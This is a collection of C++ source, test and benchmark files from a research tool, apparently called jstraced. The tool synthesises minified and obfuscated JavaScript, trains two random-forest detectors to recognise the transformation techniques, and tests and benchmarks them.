      const ScriptAnalysis analysis =
          analyze_script(corpus[i], config.analysis);
      const std::vector<float> reference =
          features::extract(analysis, config);
      const std::vector<float>& fused =
          features::extract_into(analysis, config, scratch);
      expect_rows_equal(reference, fused, i);
    }
  }
}

TEST(FusedExtraction, DataflowScratchDoesNotChangeAnalysis) {
  const std::vector<std::string> corpus = seed_corpus();
  DataFlowScratch dataflow_scratch;
  for (std::size_t i = 0; i < 6; ++i) {
    AnalysisOptions plain;
    AnalysisOptions reusing;
    reusing.dataflow_scratch = &dataflow_scratch;
    const ScriptAnalysis a = analyze_script(corpus[i], plain);
    const ScriptAnalysis b = analyze_script(corpus[i], reusing);
    EXPECT_EQ(a.data_flow.edges, b.data_flow.edges) << "script " << i;
    EXPECT_EQ(a.data_flow.unresolved_uses, b.data_flow.unresolved_uses);
  }
}

// --- detector routing ------------------------------------------------------

const analysis::TransformationAnalyzer& shared_analyzer() {
  static analysis::TransformationAnalyzer* analyzer = [] {
    analysis::PipelineOptions options;
    options.training_regular_count = 32;
    options.per_technique_count = 6;
    options.detector.forest.tree_count = 6;
    options.detector.features.ngram.hash_dim = 64;
    options.seed = 20260806;
    auto* built = new analysis::TransformationAnalyzer(options);
    built->train();
    return built;
  }();
  return *analyzer;
}

TEST(CompiledDetector, PredictionsBitIdenticalToReferenceClassifier) {
  const analysis::TransformationAnalyzer& analyzer = shared_analyzer();
  const features::FeatureConfig& config =
      analyzer.options().detector.features;
  const std::vector<std::string> corpus = seed_corpus();
  ASSERT_TRUE(analyzer.level1().compiled().compiled());
  ASSERT_TRUE(analyzer.level2().compiled().compiled());

  for (std::size_t i = 0; i < 8; ++i) {
    const ScriptAnalysis analysis_result =
        analyze_script(corpus[corpus.size() - 1 - i], config.analysis);
    const std::vector<float> row =
        features::extract(analysis_result, config);

    const auto level1 = analyzer.level1().predict(row);
    const std::vector<double> level1_reference =
        analyzer.level1().reference_classifier().predict_proba(row);
    EXPECT_EQ(level1.p_regular, level1_reference[0]);
    EXPECT_EQ(level1.p_minified, level1_reference[1]);
    EXPECT_EQ(level1.p_obfuscated, level1_reference[2]);

    const std::vector<double> level2 = analyzer.level2().predict_proba(row);
    const std::vector<double> level2_reference =
        analyzer.level2().reference_classifier().predict_proba(row);
    ASSERT_EQ(level2.size(), level2_reference.size());
    for (std::size_t j = 0; j < level2.size(); ++j) {
      EXPECT_EQ(level2[j], level2_reference[j]) << "label " << j;
    }

    const analysis::DetectorConfig& detector_config =
        analyzer.level2().config();
    EXPECT_EQ(analyzer.level2().predict_techniques(row),
              analysis::techniques_from_indices(
                  analyzer.level2()
                      .reference_classifier()
                      .predict_topk_thresholded(
                          row, detector_config.level2_topk,
                          detector_config.level2_threshold)));
  }
}

TEST(CompiledDetector, SaveLoadRoundTripKeepsPredictions) {
  const analysis::TransformationAnalyzer& analyzer = shared_analyzer();
  std::stringstream stream;
  analyzer.save(stream);  // defaults to the binary forest encoding

  analysis::TransformationAnalyzer loaded(analyzer.options());
  loaded.load(stream);

  const std::vector<std::string> corpus = seed_corpus();
  for (std::size_t i = 0; i < 4; ++i) {
    const analysis::ScriptReport a = analyzer.analyze(corpus[i]);
    const analysis::ScriptReport b = loaded.analyze(corpus[i]);
    EXPECT_EQ(a.level1.p_regular, b.level1.p_regular) << "script " << i;
    EXPECT_EQ(a.level1.p_minified, b.level1.p_minified);
    EXPECT_EQ(a.level1.p_obfuscated, b.level1.p_obfuscated);
    EXPECT_EQ(a.technique_confidence, b.technique_confidence);
    EXPECT_EQ(a.techniques, b.techniques);
  }
}

// --- scratch reuse ---------------------------------------------------------

TEST(ScriptScratch, ReusedScratchMatchesFreshAndRecordsMetrics) {
  const analysis::TransformationAnalyzer& analyzer = shared_analyzer();
  const std::vector<std::string> corpus = seed_corpus();

  obs::Counter& reuses =
      obs::MetricsRegistry::global().counter("jst_scratch_reuse_total");
  obs::Gauge& peak =
      obs::MetricsRegistry::global().gauge("jst_scratch_peak_bytes");
  const std::uint64_t reuses_before = reuses.value();

  analysis::ScriptScratch scratch;
  for (std::size_t i = 0; i < 6; ++i) {
    const analysis::ScriptOutcome reused =
        analyzer.analyze_outcome(corpus[i], ResourceLimits{}, scratch);
    analysis::ScriptScratch fresh;
    const analysis::ScriptOutcome baseline =
        analyzer.analyze_outcome(corpus[i], ResourceLimits{}, fresh);
    EXPECT_EQ(reused.status, baseline.status) << "script " << i;
    EXPECT_EQ(reused.report.level1.p_regular, baseline.report.level1.p_regular);
    EXPECT_EQ(reused.report.level1.p_minified,
              baseline.report.level1.p_minified);
    EXPECT_EQ(reused.report.level1.p_obfuscated,
              baseline.report.level1.p_obfuscated);
    EXPECT_EQ(reused.report.technique_confidence,
              baseline.report.technique_confidence);
    EXPECT_EQ(reused.report.techniques, baseline.report.techniques);
  }
  // 5 reuses of `scratch` (first use is a warm-up, not a reuse).
  EXPECT_GE(reuses.value() - reuses_before, 5u);
  EXPECT_GT(peak.value(), 0.0);
}

}  // namespace
}  // namespace jst
