// Handwritten realistic JavaScript fixtures.
//
// Used to diversify the synthetic corpus with natural code textures and as
// parser/feature test inputs. All snippets parse with jstraced's parser.
#pragma once

#include <span>
#include <string_view>

namespace jst::corpus {

std::span<const std::string_view> seed_snippets();

}  // namespace jst::corpus
