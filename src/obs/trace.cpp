#include "obs/trace.h"

#include <algorithm>
#include <atomic>
#include <cstdio>
#include <ostream>
#include <string>

namespace jst::obs {
namespace {

std::atomic<TraceSink*> g_sink{nullptr};

std::chrono::steady_clock::time_point trace_epoch() {
  static const auto kEpoch = std::chrono::steady_clock::now();
  return kEpoch;
}

}  // namespace

void TraceSink::write_complete_event(const char* name, double ts_us,
                                     double dur_us, std::uint32_t tid) {
  char line[256];
  const int written = std::snprintf(
      line, sizeof(line),
      "{\"name\":\"%s\",\"cat\":\"jst\",\"ph\":\"X\",\"ts\":%.3f,"
      "\"dur\":%.3f,\"pid\":1,\"tid\":%u}\n",
      name, ts_us, dur_us, tid);
  if (written <= 0) return;
  std::lock_guard<std::mutex> lock(mutex_);
  out_->write(line, std::min<std::size_t>(static_cast<std::size_t>(written),
                                          sizeof(line) - 1));
  ++events_;
}

TraceSink* set_trace_sink(TraceSink* sink) {
  // Force the epoch before any span can read the clock, so ts values are
  // stable relative to the first attach.
  trace_epoch();
  return g_sink.exchange(sink, std::memory_order_acq_rel);
}

TraceSink* trace_sink() { return g_sink.load(std::memory_order_acquire); }

std::uint32_t trace_thread_id() {
  static std::atomic<std::uint32_t> next{0};
  thread_local const std::uint32_t id =
      next.fetch_add(1, std::memory_order_relaxed);
  return id;
}

double trace_now_us() {
  return std::chrono::duration<double, std::micro>(
             std::chrono::steady_clock::now() - trace_epoch())
      .count();
}

}  // namespace jst::obs
