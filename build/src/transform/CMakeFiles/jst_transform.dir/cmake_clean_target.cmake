file(REMOVE_RECURSE
  "libjst_transform.a"
)
