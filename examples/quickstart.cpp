// Quickstart: train the two detectors on a synthesized corpus, transform a
// script with one technique, and classify it.
//
//   $ ./quickstart
//
// Walks through the whole public API in ~30 lines of user code.
#include <cstdio>

#include "analysis/pipeline.h"
#include "transform/transform.h"

int main() {
  using namespace jst;

  // 1. Train level-1 (regular vs minified/obfuscated) and level-2 (which
  //    of the ten techniques) on a synthesized ground-truth corpus.
  analysis::PipelineOptions options;
  options.training_regular_count = 80;   // keep the demo fast
  options.per_technique_count = 16;
  analysis::TransformationAnalyzer analyzer(options);
  std::printf("training detectors on a synthetic corpus...\n");
  analyzer.train();

  // 2. Take a regular script and obfuscate it.
  const std::string regular = R"JS(
// Compute cart totals with a small tax table.
var taxRates = { de: 0.19, fr: 0.2, us: 0.07 };

function computeTotal(items, country) {
  var subtotal = 0;
  for (var i = 0; i < items.length; i++) {
    subtotal += items[i].price * items[i].quantity;
  }
  var rate = taxRates[country] || 0;
  return subtotal * (1 + rate);
}

function formatPrice(value) {
  return value.toFixed(2) + " EUR";
}

console.log(formatPrice(computeTotal([{ price: 10, quantity: 3 }], "de")));
)JS";

  Rng rng(7);
  const std::string obfuscated = transform::apply_technique(
      transform::Technique::kControlFlowFlattening, regular, rng);

  // 3. Classify both.
  for (const auto& [name, source] :
       {std::pair<const char*, const std::string&>{"regular", regular},
        std::pair<const char*, const std::string&>{"obfuscated", obfuscated}}) {
    const analysis::ScriptReport report = analyzer.analyze(source);
    std::printf("\n--- %s script (%zu bytes) ---\n", name, source.size());
    std::printf("level 1: p(regular)=%.2f p(minified)=%.2f p(obfuscated)=%.2f"
                " => %s\n",
                report.level1.p_regular, report.level1.p_minified,
                report.level1.p_obfuscated,
                report.level1.transformed() ? "TRANSFORMED" : "regular");
    if (report.level1.transformed()) {
      std::printf("level 2 techniques (top-k @ 10%% confidence):\n");
      for (transform::Technique technique : report.techniques) {
        std::printf("  - %s (%.0f%%)\n",
                    std::string(transform::technique_name(technique)).c_str(),
                    100.0 * report.technique_confidence[static_cast<std::size_t>(
                                technique)]);
      }
    }
  }
  return 0;
}
