// §IV-D2 / Figures 6+8 — npm Top 2k, 2015-05 .. 2020-09: three phases of
// the transformed share (avg 7.4% with 24.22% relative stddev; 17.95%
// stable; 15.17%), technique mix roughly constant (58.62% simple / 34.28%
// advanced / 9.71% identifier obfuscation).
#include <cstdio>

#include "analysis/longitudinal.h"
#include "bench_common.h"
#include "support/stats.h"

int main() {
  using namespace jst;
  using namespace jst::bench;
  using transform::Technique;

  const std::size_t per_month = scaled(56);
  const std::size_t month_step = 4;

  print_header("Longitudinal npm Top 2k", "section IV-D2, Figures 6+8");
  std::printf("%-10s %12s %12s %12s %12s\n", "month", "transformed",
              "min simple", "min adv", "id obf");

  std::vector<double> phase1;
  std::vector<double> phase2;
  std::vector<double> phase3;
  for (std::size_t month = 0; month < analysis::kMonthCount;
       month += month_step) {
    const auto spec = analysis::npm_month_spec(month);
    const auto measurement = measure_population(spec, per_month, 0x80 + month);
    const auto confidence = [&](Technique technique) {
      return 100.0 *
             measurement.technique_confidence[static_cast<std::size_t>(technique)];
    };
    std::printf("%-10s %11.2f%% %11.2f%% %11.2f%% %11.2f%%\n",
                analysis::month_label(month).c_str(),
                100.0 * measurement.transformed_rate,
                confidence(Technique::kMinificationSimple),
                confidence(Technique::kMinificationAdvanced),
                confidence(Technique::kIdentifierObfuscation));
    if (month < 12) {
      phase1.push_back(measurement.transformed_rate);
    } else if (month < 49) {
      phase2.push_back(measurement.transformed_rate);
    } else {
      phase3.push_back(measurement.transformed_rate);
    }
  }
  std::printf("\n");
  print_row("phase 1 (2015-05..2016-04) avg transformed", 7.40,
            100.0 * stats::mean(phase1));
  print_row("phase 2 (2016-05..2019-05) avg transformed", 17.95,
            100.0 * stats::mean(phase2));
  print_row("phase 3 (2019-06..2020-09) avg transformed", 15.17,
            100.0 * stats::mean(phase3));
  print_row("phase 1 relative stddev (package churn)", 24.22,
            stats::relative_stddev_percent(phase1));
  print_note("three phases reflect npm package churn, not a secular trend; "
             "the technique mix stays minification-led throughout");
  print_footer();
  return 0;
}
