// The two multi-task detectors (§III-C).
#pragma once

#include <iosfwd>
#include <memory>
#include <vector>

#include "analysis/labels.h"
#include "features/feature_extractor.h"
#include "ml/compiled_forest.h"
#include "ml/metrics.h"
#include "ml/multilabel.h"

namespace jst::analysis {

struct DetectorConfig {
  features::FeatureConfig features;
  ml::ForestParams forest;
  // Classifier-chain (paper's pick) vs. independence assumption.
  bool classifier_chain = true;
  // Level-2 decision rule: up to `topk` labels whose confidence clears
  // `threshold` (empirically 10% in the paper, §III-E2).
  double level2_threshold = 0.10;
  std::size_t level2_topk = 7;
};

// Level 1: multi-task over {regular, minified, obfuscated}.
class Level1Detector {
 public:
  explicit Level1Detector(DetectorConfig config = {});

  void fit(const ml::Matrix& data, const ml::LabelMatrix& labels, Rng& rng);

  struct Prediction {
    double p_regular = 0.0;
    double p_minified = 0.0;
    double p_obfuscated = 0.0;
    bool minified() const { return p_minified >= 0.5; }
    bool obfuscated() const { return p_obfuscated >= 0.5; }
    // "We consider that a file is transformed if level 1 flagged it as
    // obfuscated and/or minified."
    bool transformed() const { return minified() || obfuscated(); }
    bool regular() const { return !transformed(); }
  };

  // Predictions route through the compiled fast path (built at the end
  // of fit()/load()); the scratch overload is allocation-free in steady
  // state. Both are bit-identical to the reference classifier.
  Prediction predict(std::span<const float> row) const;
  Prediction predict(std::span<const float> row,
                     ml::PredictScratch& scratch) const;
  const DetectorConfig& config() const { return config_; }

  // The uncompiled classifier (equivalence-test oracle) and its compiled
  // counterpart. compiled().compiled() is false until fit() or load().
  const ml::MultiLabelClassifier& reference_classifier() const {
    return *classifier_;
  }
  const ml::CompiledEnsemble& compiled() const { return compiled_; }

  // Persist/restore the trained classifier behind a versioned model header
  // (magic + format version + feature dimension + forest parameters). The
  // loader must be constructed with the same DetectorConfig; a mismatch
  // throws ModelError naming the offending field. New saves default to the
  // binary forest encoding; load() auto-detects, so text files written by
  // older builds keep loading.
  void save(std::ostream& out,
            ml::ModelEncoding encoding = ml::ModelEncoding::kBinary) const;
  void load(std::istream& in);

 private:
  DetectorConfig config_;
  std::unique_ptr<ml::MultiLabelClassifier> classifier_;
  ml::CompiledEnsemble compiled_;
};

// Level 2: multi-task over the ten techniques.
class Level2Detector {
 public:
  explicit Level2Detector(DetectorConfig config = {});

  void fit(const ml::Matrix& data, const ml::LabelMatrix& labels, Rng& rng);

  // Per-technique confidence, index = Technique value. The scratch
  // overload writes into `out` without allocating in steady state.
  std::vector<double> predict_proba(std::span<const float> row) const;
  void predict_proba(std::span<const float> row, ml::PredictScratch& scratch,
                     std::vector<double>& out) const;

  // Paper's final rule: the top-k most confident techniques above the
  // threshold.
  std::vector<transform::Technique> predict_techniques(
      std::span<const float> row) const;
  std::vector<transform::Technique> predict_techniques(
      std::span<const float> row, ml::PredictScratch& scratch) const;
  std::vector<transform::Technique> predict_topk(std::span<const float> row,
                                                 std::size_t k) const;

  const DetectorConfig& config() const { return config_; }

  const ml::MultiLabelClassifier& reference_classifier() const {
    return *classifier_;
  }
  const ml::CompiledEnsemble& compiled() const { return compiled_; }

  void save(std::ostream& out,
            ml::ModelEncoding encoding = ml::ModelEncoding::kBinary) const;
  void load(std::istream& in);

 private:
  DetectorConfig config_;
  std::unique_ptr<ml::MultiLabelClassifier> classifier_;
  ml::CompiledEnsemble compiled_;
};

}  // namespace jst::analysis
