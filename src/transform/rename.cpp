#include "transform/rename.h"

#include <unordered_map>
#include <unordered_set>

#include "dataflow/dataflow.h"
#include "lexer/lexer.h"

namespace jst::transform {

std::size_t rename_bindings(
    Ast& ast,
    const std::function<std::string(std::size_t ordinal,
                                    const std::string& old_name)>& make_name) {
  ast.finalize();
  const DataFlow flow = build_data_flow(ast);

  // Assign one new name per distinct old name (consistent across scopes —
  // stronger than necessary but always safe w.r.t. shadowing, and exactly
  // what uglify's "keep shadows consistent" fallback does).
  std::unordered_map<std::string, std::string> mapping;
  std::size_t ordinal = 0;
  std::size_t renamed = 0;
  for (const Binding& binding : flow.bindings) {
    // Never rename names that are also used unresolved elsewhere (could be
    // a global like `window` redeclared locally in one scope). Simpler and
    // safe: skip very common host globals.
    if (binding.name.empty()) continue;
    auto [it, inserted] = mapping.emplace(std::string(binding.name), "");
    if (inserted) {
      it->second = make_name(ordinal++, std::string(binding.name));
    }
    // Interned so the payload view outlives the local mapping table.
    const std::string_view new_name = ast.intern(it->second);
    const std::uint32_t new_atom = ast.atoms().intern(new_name);
    const auto apply = [&](const Node* node) {
      // Nodes come from this AST; renaming via const_cast is confined here.
      auto* mutable_node = const_cast<Node*>(node);
      mutable_node->str_value = new_name;
      mutable_node->atom = new_atom;
    };
    if (binding.declaration != nullptr &&
        binding.declaration->kind == NodeKind::kIdentifier) {
      apply(binding.declaration);
    }
    for (const Node* use : binding.uses) apply(use);
    for (const Node* write : binding.assignments) apply(write);
    ++renamed;
  }
  ast.finalize();
  return renamed;
}

std::string short_name(std::size_t ordinal) {
  static constexpr char kAlphabet[] = "abcdefghijklmnopqrstuvwxyz";
  std::string name;
  std::size_t value = ordinal;
  do {
    name.insert(name.begin(), kAlphabet[value % 26]);
    value /= 26;
  } while (value-- > 0);
  // Skip keywords like `do`, `if`, `in`: append a digit.
  if (is_js_keyword(name)) name += "0";
  return name;
}

std::string hex_name(Rng& rng) { return "_0x" + rng.hex_string(6); }

}  // namespace jst::transform
