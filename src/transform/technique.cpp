#include "transform/technique.h"

namespace jst::transform {

std::string_view technique_name(Technique technique) {
  switch (technique) {
    case Technique::kIdentifierObfuscation: return "identifier_obfuscation";
    case Technique::kStringObfuscation: return "string_obfuscation";
    case Technique::kGlobalArray: return "global_array";
    case Technique::kNoAlphanumeric: return "no_alphanumeric";
    case Technique::kDeadCodeInjection: return "dead_code_injection";
    case Technique::kControlFlowFlattening: return "control_flow_flattening";
    case Technique::kSelfDefending: return "self_defending";
    case Technique::kDebugProtection: return "debug_protection";
    case Technique::kMinificationSimple: return "minification_simple";
    case Technique::kMinificationAdvanced: return "minification_advanced";
  }
  return "unknown";
}

std::optional<Technique> technique_from_name(std::string_view name) {
  for (Technique technique : all_techniques()) {
    if (technique_name(technique) == name) return technique;
  }
  return std::nullopt;
}

bool is_minification(Technique technique) {
  return technique == Technique::kMinificationSimple ||
         technique == Technique::kMinificationAdvanced;
}

bool is_obfuscation(Technique technique) { return !is_minification(technique); }

}  // namespace jst::transform
