file(REMOVE_RECURSE
  "CMakeFiles/jst_analysis.dir/dataset.cpp.o"
  "CMakeFiles/jst_analysis.dir/dataset.cpp.o.d"
  "CMakeFiles/jst_analysis.dir/detector.cpp.o"
  "CMakeFiles/jst_analysis.dir/detector.cpp.o.d"
  "CMakeFiles/jst_analysis.dir/labels.cpp.o"
  "CMakeFiles/jst_analysis.dir/labels.cpp.o.d"
  "CMakeFiles/jst_analysis.dir/longitudinal.cpp.o"
  "CMakeFiles/jst_analysis.dir/longitudinal.cpp.o.d"
  "CMakeFiles/jst_analysis.dir/pipeline.cpp.o"
  "CMakeFiles/jst_analysis.dir/pipeline.cpp.o.d"
  "CMakeFiles/jst_analysis.dir/wild.cpp.o"
  "CMakeFiles/jst_analysis.dir/wild.cpp.o.d"
  "libjst_analysis.a"
  "libjst_analysis.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/jst_analysis.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
