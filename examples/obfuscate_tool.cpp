// CLI obfuscator/minifier: applies any of the ten monitored techniques
// (the jstraced stand-ins for obfuscator.io / JSFuck / javascript-minifier
// / Closure) plus the Dean Edwards packer.
//
//   $ ./obfuscate_tool <technique|pack|list> [seed] < in.js > out.js
#include <cstdio>
#include <cstdlib>
#include <iostream>
#include <sstream>

#include "support/error.h"
#include "transform/transform.h"

int main(int argc, char** argv) {
  using namespace jst;

  if (argc < 2) {
    std::fprintf(stderr, "usage: %s <technique|pack|list> [seed] < in.js\n",
                 argv[0]);
    return 2;
  }
  const std::string mode = argv[1];
  if (mode == "list") {
    for (transform::Technique technique : transform::all_techniques()) {
      std::printf("%s\n",
                  std::string(transform::technique_name(technique)).c_str());
    }
    std::printf("pack\n");
    return 0;
  }

  std::ostringstream buffer;
  buffer << std::cin.rdbuf();
  const std::string source = buffer.str();
  const std::uint64_t seed =
      argc > 2 ? static_cast<std::uint64_t>(std::atoll(argv[2])) : 1;
  Rng rng(seed);

  try {
    std::string out;
    if (mode == "pack") {
      out = transform::pack(source, rng);
    } else {
      const auto technique = transform::technique_from_name(mode);
      if (!technique.has_value()) {
        std::fprintf(stderr, "unknown technique '%s' (try 'list')\n",
                     mode.c_str());
        return 2;
      }
      out = transform::apply_technique(*technique, source, rng);
    }
    std::fwrite(out.data(), 1, out.size(), stdout);
    std::printf("\n");
  } catch (const ParseError& error) {
    std::fprintf(stderr, "input does not parse: %s\n", error.what());
    return 1;
  }
  return 0;
}
