// Global array transformation (obfuscator.io's "string array"): every
// string literal moves into one global array; uses become indexed fetches,
// optionally through an accessor function, with a rotation offset.
#include "ast/walk.h"
#include "codegen/codegen.h"
#include "parser/parser.h"
#include "support/strings.h"
#include "transform/rename.h"
#include "transform/transform.h"

namespace jst::transform {
namespace {

bool rewritable_position(const Node& literal) {
  const Node* parent = literal.parent;
  if (parent == nullptr) return false;
  switch (parent->kind) {
    case NodeKind::kProperty:
    case NodeKind::kMethodDefinition:
      return parent->kid(0) != &literal || parent->flag_a;
    default:
      return true;
  }
}

}  // namespace

std::string global_array_transform(std::string_view source, Rng& rng,
                                   const GlobalArrayOptions& options) {
  ParseResult parsed = parse_program(source);
  Ast& ast = parsed.ast;
  ast.finalize();

  std::vector<Node*> strings_found;
  walk_preorder(ast.root(), [&](Node& node) {
    if (node.kind == NodeKind::kLiteral &&
        node.lit_kind == LiteralKind::kString && rewritable_position(node)) {
      strings_found.push_back(&node);
    }
  });
  if (strings_found.size() < options.min_strings) {
    return to_source(ast.root());
  }

  // Deduplicate values into the table.
  std::vector<std::string> table;
  std::vector<std::size_t> literal_index(strings_found.size());
  for (std::size_t i = 0; i < strings_found.size(); ++i) {
    const std::string_view value = strings_found[i]->str_value;
    std::size_t index = table.size();
    for (std::size_t j = 0; j < table.size(); ++j) {
      if (table[j] == value) {
        index = j;
        break;
      }
    }
    if (index == table.size()) table.emplace_back(value);
    literal_index[i] = index;
  }
  rng.shuffle(table);
  // Recompute indices after the shuffle.
  for (std::size_t i = 0; i < strings_found.size(); ++i) {
    for (std::size_t j = 0; j < table.size(); ++j) {
      if (table[j] == strings_found[i]->str_value) {
        literal_index[i] = j;
        break;
      }
    }
  }

  const std::string array_name = hex_name(rng);
  const std::string accessor_name = hex_name(rng);
  const long long offset =
      options.rotate ? static_cast<long long>(rng.uniform_int(0x40, 0x1ff))
                     : 0;

  // Replace literals with accessor calls: _0xacc(index + offset) — the
  // decoder subtracts the offset (hex literal, obfuscator.io style).
  for (std::size_t i = 0; i < strings_found.size(); ++i) {
    Node* literal = strings_found[i];
    Node* call = ast.make(NodeKind::kCallExpression);
    Node* index_literal = ast.make_number(
        static_cast<double>(static_cast<long long>(literal_index[i]) + offset));
    index_literal->raw = ast.intern(
        "0x" + strings::to_base_n(
                   static_cast<std::uint64_t>(
                       static_cast<long long>(literal_index[i]) + offset),
                   16));
    call->kids = {ast.make_identifier(accessor_name), index_literal};
    Node* parent = literal->parent;
    for (Node*& kid : parent->kids) {
      if (kid == literal) kid = call;
    }
  }

  // Build the prologue:
  //   var _0xarr = ["...", ...];
  //   function _0xacc(i) { return _0xarr[i - OFFSET]; }
  Node* array = ast.make(NodeKind::kArrayExpression);
  for (const std::string& value : table) {
    Node* entry = ast.make_string(value);
    if (options.encode_contents) entry->flag_a = true;  // \xHH encoding
    array->kids.push_back(entry);
  }
  Node* declarator = ast.make(NodeKind::kVariableDeclarator);
  declarator->kids = {ast.make_identifier(array_name), array};
  Node* declaration = ast.make(NodeKind::kVariableDeclaration);
  declaration->str_value = "var";
  declaration->kids = {declarator};

  Node* param = ast.make_identifier("i");
  Node* index_expr = ast.make(NodeKind::kBinaryExpression);
  index_expr->str_value = "-";
  Node* offset_literal = ast.make_number(static_cast<double>(offset));
  offset_literal->raw = ast.intern(
      "0x" + strings::to_base_n(static_cast<std::uint64_t>(offset), 16));
  index_expr->kids = {ast.make_identifier("i"), offset_literal};
  Node* member = ast.make(NodeKind::kMemberExpression);
  member->flag_a = true;
  member->kids = {ast.make_identifier(array_name), index_expr};
  Node* return_statement = ast.make(NodeKind::kReturnStatement);
  return_statement->kids = {member};
  Node* body = ast.make(NodeKind::kBlockStatement);
  body->kids = {return_statement};
  Node* accessor = ast.make(NodeKind::kFunctionDeclaration);
  accessor->kids = {ast.make_identifier(accessor_name), body, param};

  Node* root = ast.root();
  root->kids.insert(root->kids.begin(), accessor);
  root->kids.insert(root->kids.begin(), declaration);
  ast.finalize();
  // String-array tools (obfuscator.io) always emit compact output, so a
  // global-array sample also carries a minification trace.
  CodegenOptions codegen_options;
  codegen_options.minify = true;
  codegen_options.minified_line_limit = 800;
  return generate(root, codegen_options);
}

}  // namespace jst::transform
