// Ablations over the design choices DESIGN.md calls out:
//  - feature families: 4-grams only vs. hand-picked only vs. both (§III-B),
//  - data-flow features on vs. off (the JSTAP adjustment of §III-A),
//  - forest size sensitivity.
// Each configuration trains a fresh pipeline and reports level-1 accuracy
// and level-2 Top-1 on a shared validation protocol.
#include <cstdio>

#include "analysis/dataset.h"
#include "analysis/pipeline.h"
#include "bench_common.h"
#include "support/strings.h"
#include "ml/metrics.h"

namespace {

struct Config {
  const char* name;
  bool use_ngrams;
  bool use_handpicked;
  bool use_dataflow;
  std::size_t trees;
};

struct Result {
  double level1 = 0.0;
  double top1 = 0.0;
};

Result run(const Config& config, std::size_t scale_count) {
  using namespace jst;
  using namespace jst::bench;

  analysis::PipelineOptions options;
  options.training_regular_count = scale_count;
  options.per_technique_count = scale_count / 5;
  options.seed = strings::fnv1a(config.name);
  options.detector.forest.tree_count = config.trees;
  options.detector.features.use_ngrams = config.use_ngrams;
  options.detector.features.use_handpicked = config.use_handpicked;
  options.detector.features.ngram.hash_dim = 256;
  options.detector.features.analysis.build_dataflow = config.use_dataflow;
  analysis::TransformationAnalyzer model(options);
  model.train();

  const auto bases = held_out_regular(scale_count / 2, 0xab1a7e);
  Rng rng(0xab1a7e0);
  std::size_t level1_correct = 0;
  std::size_t level1_total = 0;
  std::size_t top1_hits = 0;
  std::size_t top1_total = 0;
  for (const auto& base : bases) {
    {
      const auto report = model.analyze(base);
      ++level1_total;
      if (!report.parse_failed() && report.level1.regular()) ++level1_correct;
    }
    const auto technique = transform::all_techniques()[rng.index(10)];
    const auto sample = analysis::make_transformed_sample(base, technique, rng);
    const auto report = model.analyze(sample.source);
    ++level1_total;
    if (!report.parse_failed() && report.level1.transformed()) ++level1_correct;

    const auto row = features::extract_from_source(
        sample.source, model.options().detector.features);
    const auto top1 = analysis::indices_from_techniques(
        model.level2().predict_topk(row, 1));
    ++top1_total;
    if (ml::topk_correct(top1,
                         analysis::indices_from_techniques(sample.techniques))) {
      ++top1_hits;
    }
  }
  Result result;
  result.level1 = 100.0 * static_cast<double>(level1_correct) /
                  static_cast<double>(level1_total);
  result.top1 =
      100.0 * static_cast<double>(top1_hits) / static_cast<double>(top1_total);
  return result;
}

}  // namespace

int main() {
  using namespace jst::bench;

  const Config configs[] = {
      {"both families + dataflow (paper)", true, true, true, 24},
      {"4-grams only", true, false, true, 24},
      {"hand-picked only", false, true, true, 24},
      {"dataflow disabled", true, true, false, 24},
      {"small forest (8 trees)", true, true, true, 8},
      {"large forest (64 trees)", true, true, true, 64},
  };

  const std::size_t scale_count = scaled(70);
  print_header("Ablation study", "DESIGN.md section 5");
  std::printf("%-38s %12s %14s\n", "configuration", "level-1", "level-2 Top-1");
  for (const Config& config : configs) {
    std::fprintf(stderr, "[bench] ablation: %s...\n", config.name);
    const Result result = run(config, scale_count);
    std::printf("%-38s %11.2f%% %13.2f%%\n", config.name, result.level1,
                result.top1);
  }
  print_note("the paper's choice (both feature families, flows on, chain "
             "classifier) should be at or near the top on both metrics");
  print_footer();
  return 0;
}
