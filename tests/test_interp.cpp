#include <gtest/gtest.h>

#include "interp/interpreter.h"

namespace jst::interp {
namespace {

std::vector<std::string> run_log(std::string_view source) {
  const RunResult result = run_program_source(source);
  EXPECT_TRUE(result.ok) << result.error << "\nsource: " << source;
  return result.log;
}

std::string run_one(std::string_view source) {
  const auto log = run_log(source);
  EXPECT_EQ(log.size(), 1u);
  return log.empty() ? std::string() : log[0];
}

TEST(Interp, Arithmetic) {
  EXPECT_EQ(run_one("console.log(1 + 2 * 3);"), "7");
  EXPECT_EQ(run_one("console.log((1 + 2) * 3);"), "9");
  EXPECT_EQ(run_one("console.log(7 % 3);"), "1");
  EXPECT_EQ(run_one("console.log(2 ** 10);"), "1024");
  EXPECT_EQ(run_one("console.log(10 / 4);"), "2.5");
  EXPECT_EQ(run_one("console.log(-5 + +3);"), "-2");
}

TEST(Interp, StringConcatAndCoercion) {
  EXPECT_EQ(run_one("console.log('a' + 'b');"), "ab");
  EXPECT_EQ(run_one("console.log('n=' + 42);"), "n=42");
  EXPECT_EQ(run_one("console.log(1 + '2');"), "12");
  EXPECT_EQ(run_one("console.log('3' * '4');"), "12");
  EXPECT_EQ(run_one("console.log(true + 1);"), "2");
}

TEST(Interp, Comparisons) {
  EXPECT_EQ(run_one("console.log(1 < 2);"), "true");
  EXPECT_EQ(run_one("console.log('1' == 1);"), "true");
  EXPECT_EQ(run_one("console.log('1' === 1);"), "false");
  EXPECT_EQ(run_one("console.log(null == undefined);"), "true");
  EXPECT_EQ(run_one("console.log(null === undefined);"), "false");
  EXPECT_EQ(run_one("console.log('abc' < 'abd');"), "true");
}

TEST(Interp, BitwiseOperators) {
  EXPECT_EQ(run_one("console.log(5 & 3);"), "1");
  EXPECT_EQ(run_one("console.log(5 | 3);"), "7");
  EXPECT_EQ(run_one("console.log(5 ^ 3);"), "6");
  EXPECT_EQ(run_one("console.log(~0);"), "-1");
  EXPECT_EQ(run_one("console.log(1 << 4);"), "16");
  EXPECT_EQ(run_one("console.log(-8 >> 1);"), "-4");
  EXPECT_EQ(run_one("console.log(5 >>> 1);"), "2");
}

TEST(Interp, VariablesAndScope) {
  EXPECT_EQ(run_one("var a = 1; a = a + 2; console.log(a);"), "3");
  EXPECT_EQ(run_one("let x = 1; { let x = 2; } console.log(x);"), "1");
  EXPECT_EQ(run_one("var y = 1; { var y = 2; } console.log(y);"), "2");
}

TEST(Interp, VarHoisting) {
  EXPECT_EQ(run_one("console.log(typeof h); var h = 1;"), "undefined");
  EXPECT_EQ(run_one("console.log(hoisted()); function hoisted() { return 9; }"),
            "9");
}

TEST(Interp, FunctionsAndClosures) {
